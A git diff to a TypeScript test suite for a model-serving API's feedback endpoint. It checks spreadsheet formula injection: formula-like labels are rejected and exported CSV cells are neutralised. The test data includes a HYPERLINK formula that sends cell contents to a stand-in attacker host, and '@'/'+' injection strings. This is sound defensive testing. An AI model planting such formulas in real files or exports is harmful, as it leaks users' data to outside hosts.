@@ -109,7 +109,15 @@ describe('feedback under hostile traffic', () => {
     const formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
     const hostile = { ...PENGUIN, Island: formula, Sex: '@SUM(1+1)', 'Beak Length (mm)': -3.2 };
     const items = [];
-    for (let i = 0; i < 20; i++) items.push({ request_id: await predictOne('penguins-b', hostile), label: '+Gentoo' });
+    for (let i = 0; i < 20; i++) items.push({ request_id: await predictOne('penguins-b', hostile), label: 'Gentoo' });
+    // A formula for a label is not one of the classifier's classes: refused before anything is written.
+    const formulaLabel = await admin
+      .feedback('penguins-b', [{ request_id: items[0].request_id, label: '+Gentoo' }])
+      .then(
+        () => null,
+        (e: unknown) => e as Error,
+      );
+    expect(formulaLabel?.message).toContain('items[0].label: "+Gentoo" is not a class of the model');
     expect((await admin.feedback('penguins-b', items)).accepted).toBe(20);
 
     const csv = await admin.feedbackData('/v1/models/penguins-b/feedback-data');
@@ -123,7 +131,7 @@ describe('feedback under hostile traffic', () => {
         Island: `'${formula}`,
         Sex: "'@SUM(1+1)",
         'Beak Length (mm)': '-3.2',
-        Species: "'+Gentoo",
+        Species: 'Gentoo',
       });
     }
     const read = Papa.parse<Record<string, string>>(csv, {
@@ -136,7 +144,7 @@ describe('feedback under hostile traffic', () => {
       Island: formula,
       Sex: '@SUM(1+1)',
       'Beak Length (mm)': '-3.2',
-      Species: '+Gentoo',
+      Species: 'Gentoo',
     });
   });
 });
